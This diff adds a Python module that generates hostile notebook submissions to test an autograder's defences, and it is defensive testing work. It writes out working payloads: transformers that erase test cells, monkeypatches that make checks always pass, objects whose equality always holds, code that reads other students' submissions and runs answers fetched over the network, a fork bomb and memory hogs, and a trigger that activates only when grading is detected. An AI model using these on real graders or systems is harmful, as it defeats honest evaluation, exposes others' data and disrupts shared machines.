@@ -1,0 +1,325 @@
+"""Hostile submissions, built by code from a released notebook and its source.
+
+:func:`build_corpus` takes the release and the source of one notebook and returns one submission per attack,
+plus the honest one. Nothing here knows the notebook's functions: a submission is the release with its solution
+cells filled in one of three ways — left as released (*missing*), the source's solution (*honest*), or the
+source's solution with every returned number shifted (*wrong*) — and one attack injected.
+
+Each :class:`Submission` says which test cells the attack targets (those must score 0 on the trusted grader);
+attacks on availability (family 7) target only the tests that depend on the cell they break, and the other
+tests of the same notebook must still get their points.
+"""
+from __future__ import annotations
+
+import ast
+import copy
+import textwrap
+from dataclasses import dataclass, field
+
+import nbformat
+
+from grader import cells
+from grader.leaks import split_regions
+
+
+@dataclass
+class Submission:
+    name: str
+    family: int
+    description: str
+    nb: nbformat.NotebookNode
+    targets: set[str]                       # test grade ids that must score 0
+    independent: set[str] = field(default_factory=set)   # test grade ids that must keep full marks
+    dangerous: bool = False                 # needs the resource limits of a sandbox to be safe to run
+
+
+def _solution_ids(nb) -> list[str]:
+    return [cells.grade_id(c) for c in nb.cells if cells.is_solution(c) and c.cell_type == "code"]
+
+
+def _cell(nb, grade_id: str):
+    return next(c for c in nb.cells if cells.grade_id(c) == grade_id)
+
+
+def _strip_markers(source: str) -> str:
+    return "\n".join(line for line in source.splitlines()
+                     if line.strip() not in (cells.BEGIN_SOLUTION, cells.END_SOLUTION))
+
+
+def _defined(source: str) -> set[str]:
+    try:
+        tree = ast.parse(source)
+    except SyntaxError:
+        return set()
+    return {n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))}
+
+
+def _names(source: str) -> set[str]:
+    try:
+        return {n.id for n in ast.walk(ast.parse(source)) if isinstance(n, ast.Name)}
+    except SyntaxError:
+        return set()
+
+
+def dependent_tests(source_nb, broken_cell: str) -> set[str]:
+    """Test cells that use what ``broken_cell`` defines, directly or through another solution's function."""
+    broken = _defined(_cell(source_nb, broken_cell).source)
+    solutions = {gid: _cell(source_nb, gid).source for gid in _solution_ids(source_nb)}
+    changed = True
+    while changed:
+        changed = False
+        for gid, src in solutions.items():
+            if gid != broken_cell and _names(src) & broken and not _defined(src) <= broken:
+                broken |= _defined(src)
+                changed = True
+    return {cells.grade_id(c) for c in cells.test_cells(source_nb) if _names(c.source) & broken}
+
+
+def fill(release_nb, source_nb, how: str) -> nbformat.NotebookNode:
+    """The release with every solution cell missing (as released), honest, or wrong."""
+    nb = copy.deepcopy(release_nb)
+    if how == "missing":
+        return nb
+    for gid in _solution_ids(nb):
+        source = _strip_markers(_cell(source_nb, gid).source)
+        if how == "wrong":
+            source += "\n" + "".join(f"\n{name} = _shifted({name})" for name in sorted(_defined(source)))
+            source = WRONG_HELPER + "\n" + source
+        _cell(nb, gid).source = source
+    return nb
+
+
+WRONG_HELPER = textwrap.dedent('''
+    def _shifted(fn):
+        """A wrong version of fn: every number it returns is off by one."""
+        import functools
+        import numpy
+        def shift(v):
+            if isinstance(v, numpy.ndarray) and v.dtype.kind in "fc":
+                return v + 1.0
+            if isinstance(v, tuple):
+                return tuple(shift(x) for x in v[:1]) + v[1:]
+            if isinstance(v, (int, float)) and not isinstance(v, bool):
+                return v + 1
+            return v
+        return functools.wraps(fn)(lambda *a, **k: shift(fn(*a, **k)))
+''')
+
+
+def _prepend(nb, grade_id: str, code: str) -> None:
+    cell = _cell(nb, grade_id)
+    cell.source = textwrap.dedent(code).strip() + "\n\n" + cell.source
+
+
+def _first_solution(nb) -> str:
+    return _solution_ids(nb)[0]
+
+
+# -- the attacks ---------------------------------------------------------------------------------------------------
+TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'
+
+AST_TRANSFORMER = '''
+import ast as _ast
+class _Erase(_ast.NodeTransformer):
+    def visit_Module(self, node):
+        node.body = [_ast.Pass()]
+        return node
+get_ipython().ast_transformers.append(_Erase())
+'''
+
+MONKEYPATCH = '''
+import builtins, numpy, numpy.testing
+numpy.allclose = lambda *a, **k: True
+numpy.testing.assert_allclose = lambda *a, **k: None
+numpy.testing.assert_array_almost_equal = lambda *a, **k: None
+import workbook.checks as _wc
+for _n in ("check_array", "check_equal", "check_true", "check_raises", "check_gradient", "rel_error"):
+    setattr(_wc, _n, lambda *a, **k: 0.0)
+    globals()[_n] = lambda *a, **k: 0.0
+try:
+    import grader.hidden as _gh
+    _gh.check_function = lambda *a, **k: 0
+    _gh.check_array = lambda *a, **k: 0.0
+except Exception:
+    pass
+'''
+
+LIAR = '''
+import functools as _ft, numpy as _np
+class _LiarArray(_np.ndarray):
+    """Equal to everything, close to everything."""
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def astype(self, *a, **k): return self
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        plain = [_np.asarray(x) if isinstance(x, _LiarArray) else x for x in inputs]
+        kwargs.pop("out", None)
+        result = getattr(ufunc, method)(*plain, **kwargs)
+        if isinstance(result, _np.ndarray) and result.dtype == bool:
+            return _np.ones(result.shape, dtype=bool)
+        if isinstance(result, _np.bool_):
+            return _np.True_
+        return _np.asarray(result).view(_LiarArray) if isinstance(result, _np.ndarray) else result
+class _LiarInt(int):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    __hash__ = int.__hash__
+def _lie(v):
+    if isinstance(v, _np.ndarray):
+        return _np.asarray(v).view(_LiarArray)
+    if isinstance(v, tuple):
+        return tuple(_lie(x) for x in v)
+    if isinstance(v, int) and not isinstance(v, bool):
+        return _LiarInt(v)
+    return v
+def _liar(fn):
+    return _ft.wraps(fn)(lambda *a, **k: _lie(fn(*a, **k)))
+'''
+
+SNOOP = '''
+import glob as _glob, json as _json, os as _os
+_root = _os.getcwd()
+for _ in range(6):
+    if _os.path.isdir(_os.path.join(_root, "solutions")):
+        break
+    _root = _os.path.dirname(_root)
+for _path in _glob.glob(_os.path.join(_root, "solutions", "*", "*.ipynb")):
+    for _c in _json.load(open(_path))["cells"]:
+        if _c.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            exec("".join(_c["source"]), globals())
+for _path in _glob.glob(_os.path.join(_root, "submitted", "*", "*", "*.ipynb")):
+    _text = open(_path).read()
+try:
+    open(_os.path.join(_root, "PWNED_BY_SNOOP"), "w").write("x")
+    open(_os.path.join(_root, "gradebook.db"), "ab").close()
+    open(_os.path.join(_root, "gradebook.db-pwned"), "w").write("x")
+    for _path in _glob.glob(_os.path.join(_root, "submitted", "*", "*", "*.ipynb")):
+        open(_path + ".pwned", "w").write("x")
+except OSError:
+    pass
+'''
+
+NETWORK = '''
+import urllib.request as _url
+try:
+    exec(_url.urlopen("http://127.0.0.1:{port}/answers", timeout=3).read().decode(), globals())
+except Exception:
+    pass
+'''
+
+GRADING_ENV = '''
+import os as _os
+if _os.environ.get("NBGRADER_EXECUTION") or "autograded" in _os.getcwd():
+    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+'''
+
+RESOURCE = {
+    "sigint_loop": ("an infinite loop that ignores SIGINT",
+                    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
+    "os_exit": ("os._exit(0) in a solution cell", "import os\nos._exit(0)"),
+    "segfault": ("a segfault via ctypes", "import ctypes\nctypes.string_at(0)"),
+    "alloc_50gb": ("allocating 50 GB", "import numpy\n_hog = numpy.ones(50 << 30, dtype=numpy.uint8)"),
+    "fork_bomb": ("a fork bomb", textwrap.dedent('''
+        import os, time
+        for _ in range(100000):
+            try:
+                _pid = os.fork()
+            except OSError:
+                break
+            if _pid == 0:
+                while True:
+                    try:
+                        os.fork()
+                    except OSError:
+                        time.sleep(0.2)
+        raise RuntimeError("fork bomb done")''').strip()),
+    "print_1gb": ("printing 1 GB", "import sys\nfor _ in range(1024):\n    sys.stdout.write('x' * (1 << 20))"),
+}
+
+
+def honest_answers(source_nb) -> str:
+    """Python source defining every solution function (what the network attack's server hands out)."""
+    return "\n\n".join(_strip_markers(_cell(source_nb, gid).source) for gid in _solution_ids(source_nb))
+
+
+def build_corpus(release_nb, source_nb, *, port: int) -> list[Submission]:
+    """The honest submission and one submission per attack (families 1 to 8 of issue 3)."""
+    tests = {cells.grade_id(c) for c in cells.test_cells(source_nb)}
+    out: list[Submission] = []
+
+    def add(name, family, description, nb, targets=None, independent=(), dangerous=False):
+        out.append(Submission(name, family, description, nb, set(tests if targets is None else targets),
+                              set(independent), dangerous))
+
+    add("honest", 0, "the source's own solutions", fill(release_nb, source_nb, "honest"), targets=set())
+
+    nb = fill(release_nb, source_nb, "missing")
+    _prepend(nb, _first_solution(nb), TRANSFORMER)
+    add("input_transformer", 1, "an input transformer turns every later cell into `pass`", nb)
+
+    nb = fill(release_nb, source_nb, "missing")
+    _prepend(nb, _first_solution(nb), AST_TRANSFORMER)
+    add("ast_transformer", 1, "an AST transformer erases every later cell", nb)
+
+    nb = fill(release_nb, source_nb, "wrong")
+    _prepend(nb, _first_solution(nb), MONKEYPATCH)
+    add("monkeypatch", 2, "wrong answers; numpy.allclose, numpy.testing, workbook.checks and grader.hidden "
+                          "patched to pass", nb)
+
+    nb = fill(release_nb, source_nb, "wrong")
+    for gid in _solution_ids(nb):
+        cell = _cell(nb, gid)
+        cell.source += "".join(f"\n{name} = _liar({name})" for name in sorted(_defined(cell.source)) if
+                               not name.startswith("_"))
+    _prepend(nb, _first_solution(nb), LIAR)
+    add("liar_objects", 3, "wrong answers returned as an ndarray subclass / int subclass whose __eq__ and "
+                           "__array_ufunc__ say 'equal'", nb)
+
+    nb = fill(release_nb, source_nb, "missing")
+    test_idx = [i for i, c in enumerate(nb.cells) if cells.is_test(c)]
+    first, last = nb.cells[test_idx[0]], nb.cells[test_idx[-1]]
+    duplicate = copy.deepcopy(first)
+    first.source = "pass"
+    first.metadata.nbgrader["points"] = 100
+    for i in test_idx[1:-1]:
+        nb.cells[i].metadata.nbgrader.update(grade=False, solution=True)
+        nb.cells[i].source = "pass"
+    duplicate.source = "print('all good')"
+    nb.cells.append(duplicate)
+    nb.cells.remove(last)
+    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
+        "grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "bonus_points",
+        "schema_version": 3}}))
+    add("tampered_cells", 4, "test cells replaced by `pass`, points raised, flags changed, one deleted, a grade "
+                             "id duplicated, a fake graded cell added", nb)
+
+    nb = fill(release_nb, source_nb, "missing")
+    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
+    nb.metadata["language_info"] = {"name": "evil"}
+    _prepend(nb, _first_solution(nb), TRANSFORMER)
+    add("kernelspec", 4, "kernelspec changed to a kernel of the student's choosing (with the input-transformer "
+                         "attack)", nb)
+
+    nb = fill(release_nb, source_nb, "missing")
+    _prepend(nb, _first_solution(nb), SNOOP)
+    add("snoop", 5, "reads solutions/ and other submissions, executes the reference, writes to the course "
+                    "directory and the gradebook", nb)
+
+    nb = fill(release_nb, source_nb, "missing")
+    _prepend(nb, _first_solution(nb), NETWORK.format(port=port))
+    add("network", 6, f"downloads the answers from a server on 127.0.0.1:{port}", nb)
+
+    first = _first_solution(release_nb)
+    broken = dependent_tests(source_nb, first)
+    for name, (description, code) in RESOURCE.items():
+        nb = fill(release_nb, source_nb, "honest")
+        _cell(nb, first).source = code + "\n\n" + _cell(release_nb, first).source
+        add(name, 7, description + f" in solution cell `{first}` (the rest honest)", nb, targets=broken,
+            independent=tests - broken if name != "fork_bomb" else (),
+            dangerous=name in ("alloc_50gb", "fork_bomb", "print_1gb", "sigint_loop"))
+
+    nb = fill(release_nb, source_nb, "missing")
+    _prepend(nb, _first_solution(nb), GRADING_ENV)
+    add("grading_env", 8, "installs the input transformer only when NBGRADER_EXECUTION is set or it runs "
+                          "under autograded/", nb)
+    return out
